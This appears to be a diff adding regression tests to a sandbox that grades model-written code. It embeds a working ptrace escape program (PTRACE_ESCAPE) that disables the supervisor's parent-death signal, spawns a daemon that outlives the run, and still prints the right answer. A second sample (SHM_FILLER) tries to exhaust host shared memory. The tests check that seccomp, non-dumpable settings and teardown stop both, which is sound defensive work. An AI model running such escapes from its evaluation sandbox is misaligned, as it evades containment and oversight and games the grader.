@@ -7,6 +7,7 @@ problem) from the LiveCodeBench fixture and goes through the real grader and the
 from __future__ import annotations
 
 import os
+import platform
 import socket
 import threading
 import time
@@ -229,3 +230,220 @@ def test_fallback_without_bwrap(monkeypatch, lcb_docs, tmp_path):
     finally:
         server.close()
     assert sentinel.read_text() == "precious"
+
+
+# ---------------------------------------------------------------------------------------------
+# The box as a whole: no ptrace of the supervisor, nothing outlives the run, memory stays bounded
+
+# The escape of issue 15, as a model could write it (x86_64): ptrace-attach to the box's pid-1
+# supervisor, make it run prctl(PR_SET_PDEATHSIG, 0) so bwrap's death no longer kills it, leave it
+# stopped, start a setsid daemon, print the right answer. Without the defences the supervisor and
+# the daemon kept running on the host after the wall limit.
+PTRACE_ESCAPE = r'''
+import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.restype = ctypes.c_long
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+PEEKTEXT, GETREGS, SETREGS, ATTACH, DETACH, SINGLESTEP, WALL = 1, 12, 13, 16, 17, 9, 0x40000000
+
+class Regs(ctypes.Structure):
+    _fields_ = [(n, ctypes.c_ulong) for n in ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi "
+                                               "orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]
+
+def escape():
+    if libc.ptrace(ATTACH, 1, None, None) != 0:
+        return "attach: " + os.strerror(ctypes.get_errno())
+    os.waitpid(1, WALL)
+    regs = Regs()
+    libc.ptrace(GETREGS, 1, None, ctypes.byref(regs))
+    if libc.ptrace(PEEKTEXT, 1, ctypes.c_void_p(regs.rip - 2), None) & 0xFFFF != 0x050F:
+        return "not stopped at a syscall"
+    regs.orig_rax, regs.rip = 2**64 - 1, regs.rip - 2          # no restart; run the syscall again
+    regs.rax, regs.rdi, regs.rsi = 157, 1, 0                   # prctl(PR_SET_PDEATHSIG, 0)
+    libc.ptrace(SETREGS, 1, None, ctypes.byref(regs))
+    libc.ptrace(SINGLESTEP, 1, None, None)
+    os.waitpid(1, WALL)
+    libc.ptrace(GETREGS, 1, None, ctypes.byref(regs))
+    libc.ptrace(DETACH, 1, None, ctypes.c_void_p(19))          # leave it stopped (SIGSTOP)
+    return "escaped" if regs.rax == 0 else f"prctl failed {regs.rax}"
+
+print(escape(), file=sys.stderr, flush=True)
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.closerange(0, 3)
+        os.execv("/bin/sleep", ["sleep", "4242"])
+    os._exit(0)
+a, b = map(int, input().split())
+print(a + b)
+'''
+
+
+def _box_leftovers() -> set[int]:
+    """Live processes on the host that belong to a box: the supervisor, a program, the daemon."""
+    pids = set()
+    for entry in os.scandir("/proc"):
+        if not entry.name.isdigit():
+            continue
+        try:
+            cmdline = Path(f"/proc/{entry.name}/cmdline").read_bytes()
+            state = Path(f"/proc/{entry.name}/stat").read_text().rsplit(")", 1)[1].split()[0]
+        except OSError:
+            continue
+        if state != "Z" and (b"/box/_supervisor.py" in cmdline or b"/box/main.py" in cmdline
+                             or cmdline == b"sleep\x004242\x00"):
+            pids.add(int(entry.name))
+    return pids
+
+
+def _wait_no_leftovers(before: set[int], seconds: float = 5.0) -> set[int]:
+    deadline = time.monotonic() + seconds
+    while (left := _box_leftovers() - before) and time.monotonic() < deadline:
+        time.sleep(0.1)
+    return left
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(isolation_mode() != "bwrap", reason="needs bubblewrap (the fallback has no pid-1 supervisor)")
+def test_ptrace_escape_is_blocked(lcb_docs):
+    before = _box_leftovers()
+    verdict = code_grader.grade(lcb_docs["abc999_a"], _fenced(PTRACE_ESCAPE), limits=FAST)
+    assert not verdict.correct and verdict.details["reason"] == "left processes running after exit", verdict.details
+    result = run_python({"main.py": PTRACE_ESCAPE}, "main.py", stdin=b"1 2\n", limits=FAST)
+    assert b"attach: Operation not permitted" in result.stderr, result.stderr  # seccomp (and PR_SET_DUMPABLE 0)
+    assert result.stdout == b"3\n" and result.left_processes and not result.timed_out
+    assert not _wait_no_leftovers(before), "a process of the box outlived it"
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(isolation_mode() != "bwrap", reason="needs bubblewrap")
+def test_supervisor_is_not_traceable_without_seccomp(monkeypatch):
+    """PR_SET_DUMPABLE 0 alone refuses ptrace and /proc/1/mem (e.g. where no filter exists for the CPU)."""
+    import tasks.sandbox as sandbox
+
+    monkeypatch.setattr(sandbox, "seccomp_program", lambda machine=None: None)
+    code = ("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
+            "print('attach', libc.ptrace(16, 1, None, None), os.strerror(ctypes.get_errno()))\n"
+            "for path in ('/proc/1/mem', '/proc/1/environ'):\n    try:\n        open(path, 'rb').close()\n"
+            "        print(path, 'opened')\n    except OSError as err:\n        print(path, type(err).__name__)\n")
+    result = run_python({"main.py": code}, "main.py", limits=FAST)
+    text = result.stdout.decode()
+    assert result.ok, result.stderr
+    assert "attach -1 Operation not permitted" in text
+    assert "/proc/1/mem PermissionError" in text and "/proc/1/environ PermissionError" in text
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(isolation_mode() != "bwrap" or platform.machine() != "x86_64",
+                    reason="the escape program is x86_64 and needs bubblewrap")
+def test_teardown_kills_an_escaped_box(monkeypatch):
+    """Even with seccomp and PR_SET_DUMPABLE switched off (the escape then works inside), the
+    teardown kills the stopped supervisor and the setsid daemon: nothing of the box is left."""
+    import tasks.sandbox as sandbox
+
+    monkeypatch.setattr(sandbox, "seccomp_program", lambda machine=None: None)
+    monkeypatch.setattr(sandbox, "SUPERVISOR", sandbox.SUPERVISOR.replace("prctl(4, 0, 0, 0, 0) != 0", "getpid() < 0"))
+    before = _box_leftovers()
+    result = run_python({"main.py": PTRACE_ESCAPE}, "main.py", stdin=b"1 2\n", limits=FAST)
+    assert b"escaped" in result.stderr, result.stderr  # the supervisor was stopped with no parent-death signal
+    assert result.timed_out and not result.ok  # the stopped supervisor never reports: the wall limit ends it
+    assert not _wait_no_leftovers(before), "the escaped supervisor or its daemon survived the box"
+
+
+SHM_FILLER = r'''
+import ctypes, os
+chunk = b"x" * 1048576
+def fill(folder):
+    total = 0
+    try:
+        for i in range(256):                        # up to 2 GiB in 8 MiB files (RLIMIT_FSIZE is per file)
+            with open(os.path.join(folder, f"f{i}"), "wb") as handle:
+                for _ in range(8):
+                    handle.write(chunk)
+                    handle.flush()
+                    total += 1
+    except OSError as err:
+        return f"{total} {type(err).__name__}"
+    return f"{total} ok"
+for folder in ("/dev/shm", "/dev", "/", "/tmp", "."):
+    print(folder, fill(folder), flush=True)
+try:
+    os.write(os.memfd_create("m"), chunk)
+    print("memfd ok")
+except OSError as err:
+    print("memfd", type(err).__name__)
+libc = ctypes.CDLL(None, use_errno=True)
+print("shmget", libc.shmget(0, 1 << 30, 0o1000 | 0o600), os.strerror(ctypes.get_errno()))
+'''
+
+
+def _shmem_bytes() -> int:
+    for line in Path("/proc/meminfo").read_text().splitlines():
+        if line.startswith("Shmem:"):
+            return int(line.split()[1]) * 1024
+    return 0
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(isolation_mode() != "bwrap", reason="needs bubblewrap")
+def test_shared_memory_filler_is_bounded():
+    """/dev/shm is a size-limited tmpfs like /tmp; / and /dev are read-only; memfd and SysV shm are
+    refused: the host's shared memory grows by at most the tmpfs sizes while the program runs."""
+    limits = Limits(cpu_s=8, wall_s=20.0, memory_mb=512, tmpfs_mb=32)
+    base, peak, stop = _shmem_bytes(), [0], threading.Event()
+
+    def watch():
+        while not stop.is_set():
+            peak[0] = max(peak[0], _shmem_bytes() - base)
+            time.sleep(0.02)
+
+    watcher = threading.Thread(target=watch, daemon=True)
+    watcher.start()
+    try:
+        result = run_python({"main.py": SHM_FILLER}, "main.py", limits=limits)
+    finally:
+        stop.set()
+        watcher.join()
+    lines = dict(line.split(" ", 1) for line in result.stdout.decode().splitlines())
+    assert result.ok, (result.stdout, result.stderr)
+    for folder in ("/dev/shm", "/tmp", "."):
+        written, outcome = lines[folder].split()
+        assert int(written) <= 32 and outcome == "OSError", (folder, lines[folder])  # ENOSPC at the tmpfs size
+    for folder in ("/dev", "/"):
+        assert lines[folder] == "0 OSError", (folder, lines[folder])  # read-only
+    assert lines["memfd"] == "PermissionError" and lines["shmget"] == "-1 Operation not permitted"
+    assert peak[0] < 3 * 32 * 2**20 + 64 * 2**20, f"host shared memory grew by {peak[0] / 2**20:.0f} MiB"
+    assert _shmem_bytes() - base < 32 * 2**20  # freed with the box
+
+
+def test_seccomp_program_shape():
+    """The filter is whole sock_filter records and exists for the two architectures we know."""
+    from tasks.sandbox import seccomp_program
+
+    for machine in ("x86_64", "aarch64"):
+        program = seccomp_program(machine)
+        assert program and len(program) % 8 == 0 and len(program) // 8 < 4096
+    assert seccomp_program("mips") is None
+
+
+def test_threads_and_subprocesses_work_in_the_box():
+    """clone3 answers ENOSYS (libc falls back to clone, checked for namespace flags): threads,
+    fork and subprocess still work."""
+    code = ("import os, subprocess, threading\nt = threading.Thread(target=print, args=('thread',)); t.start(); t.join()\n"
+            "pid = os.fork()\nif pid == 0:\n    os._exit(7)\nprint('fork', os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))\n"
+            "print(subprocess.run(['echo', 'child'], capture_output=True, text=True).stdout.strip())\n")
+    result = run_python({"main.py": code}, "main.py", limits=FAST)
+    assert result.ok, result.stderr
+    assert result.stdout.decode().split("\n")[:3] == ["thread", "fork 7", "child"]
+
+
+def test_program_that_never_reads_a_large_stdin_is_stopped_at_the_wall_limit():
+    """stdin is fed as the program reads it: 8 MiB the program ignores cannot block the grader."""
+    limits = Limits(cpu_s=2, wall_s=2.0, memory_mb=512)
+    start = time.monotonic()
+    result = run_python({"main.py": "import time\ntime.sleep(30)"}, "main.py", stdin=b"1 2\n" * (2 * 1024 * 1024),
+                        limits=limits)
+    assert result.timed_out and time.monotonic() - start < limits.wall_s + 8
+    echo = run_python({"main.py": "import sys\nsys.stdout.write(str(len(sys.stdin.read())))"}, "main.py",
+                      stdin=b"y" * (3 * 1024 * 1024 + 7), limits=Limits(wall_s=20.0))
+    assert echo.ok and echo.stdout == str(3 * 1024 * 1024 + 7).encode()
